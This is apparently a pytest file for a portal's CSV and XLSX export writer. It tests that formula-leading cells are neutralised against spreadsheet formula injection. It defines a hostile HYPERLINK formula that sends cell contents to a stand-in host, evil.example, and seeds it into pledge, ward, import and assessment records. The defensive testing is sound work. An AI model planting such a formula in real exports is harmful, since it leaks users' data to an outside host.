"""The one export writer: formulas neutralised in every CSV and XLSX the portal offers."""

from __future__ import annotations

import csv
import io
import json
from decimal import Decimal

from openpyxl import load_workbook
from sqlalchemy import select

from portal.assessment.frameworks import load_frameworks
from portal.assessment.models import Action
from portal.assessment.services import current_year
from portal.core.export import Sheet, csv_text, neutralise, xlsx_workbook
from portal.extensions import db
from portal.pledges.catalogue import load_catalogue
from portal.scorecard.models import ScorecardImport, WardDeprivation
from tests.assessment.factories import make_assessment
from tests.factories import convenor, member_of
from tests.pledges.factories import make_pledge, ward

HOSTILE = '=HYPERLINK("https://evil.example/?x="&A1,"Click")'


def test_cells_that_start_a_formula_become_text_and_numbers_stay_numbers():
    for dangerous in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert neutralise(dangerous) == "'" + dangerous
    for safe in ("Armley", "", "1 = 1", "'quoted"):
        assert neutralise(safe) == safe
    for number in (-1, 0, 2.5, Decimal("-12.50"), None):
        assert neutralise(number) == number


def test_csv_rows_are_neutralised_with_spreadsheet_line_endings():
    text = csv_text(["name", "value"], [[HOSTILE, -3], ["Plain", Decimal("1.50")]])
    assert text.endswith("\r\n")
    assert list(csv.reader(io.StringIO(text))) == [
        ["name", "value"],
        ["'" + HOSTILE, "-3"],
        ["Plain", "1.50"],
    ]


def test_workbook_sheets_keep_numbers_as_numbers_and_text_as_text():
    workbook = load_workbook(
        xlsx_workbook([Sheet("Figures", ["label", "value"], [["\t=cmd", -2.5], ["ok", 3]])])
    )
    rows = list(workbook["Figures"].iter_rows(values_only=True))
    assert rows == [("label", "value"), ("'\t=cmd", -2.5), ("ok", 3)]
    assert workbook["Figures"].freeze_panes == "A2"


def _csv(response) -> list[list[str]]:
    assert response.status_code == 200
    assert response.mimetype == "text/csv"
    return list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"))))


def test_pledge_wall_export_neutralises_a_hostile_title(client):
    load_catalogue()
    make_pledge(title=HOSTILE)
    rows = _csv(client.get("/pledges/export.csv"))
    title = rows[0].index("title")
    assert rows[1][title] == "'" + HOSTILE


def test_ward_figures_export_neutralises_a_hostile_source(client):
    armley = ward("Armley")
    figures = db.session.scalar(select(WardDeprivation).filter_by(ward_id=armley.id))
    if figures is None:
        figures = WardDeprivation(ward_id=armley.id)
        db.session.add(figures)
    figures.share_most_deprived, figures.decile, figures.source = 12.5, 3, HOSTILE
    db.session.commit()
    rows = _csv(client.get("/scorecard/wards/figures.csv"))
    armley = next(row for row in rows if row[0] == "Armley")
    assert armley[1:] == ["12.5", "'" + HOSTILE, "3", ""]  # no population


def test_import_problems_export_neutralises_a_hostile_message(client, login):
    user = convenor("HEALTHY")
    entry = ScorecardImport(
        created_by_id=user.id,
        filename="values.csv",
        status="rejected",
        errors_json=json.dumps([[2, "source", HOSTILE]]),
    )
    db.session.add(entry)
    db.session.commit()
    login(user)
    rows = _csv(client.get(f"/scorecard/imports/{entry.id}/problems.csv"))
    assert rows == [["row", "column", "message"], ["2", "source", "'" + HOSTILE]]


def test_activities_template_downloads_through_the_writer(client, login):
    user = member_of()
    login(user)
    organisation = user.memberships[0].organisation
    activities = client.get(f"/orgs/{organisation.id}/activities/import/template.csv")
    assert activities.get_data(as_text=True).startswith("\ufefftitle,")
    assert len(_csv(activities)) == 3


def test_scorecard_template_downloads_through_the_writer(client, login):
    login(convenor("HEALTHY"))
    scorecard = _csv(client.get("/scorecard/import/template.csv"))
    assert scorecard[0][0] == "indicator" and len(scorecard) == 4


def test_assessment_workbook_neutralises_tab_and_formula_text(client, login):
    load_frameworks()
    user = member_of()
    organisation = user.memberships[0].organisation
    assessment = make_assessment(organisation, current_year(), level=2, target=4)
    criterion = assessment.framework.criteria[0]
    db.session.add(
        Action(
            assessment_id=assessment.id,
            criterion_id=criterion.id,
            description="\t" + HOSTILE,
            owner=HOSTILE,
            status="not_started",
        )
    )
    db.session.commit()
    login(user)
    response = client.get(f"/orgs/{organisation.id}/assessment/{current_year()}/export.xlsx")
    assert response.status_code == 200
    plan = list(load_workbook(io.BytesIO(response.data))["Action plan"].iter_rows(values_only=True))
    row = next(r for r in plan if r[0] == criterion.code)
    assert row[5] == "'\t" + HOSTILE
    assert row[6] == "'" + HOSTILE
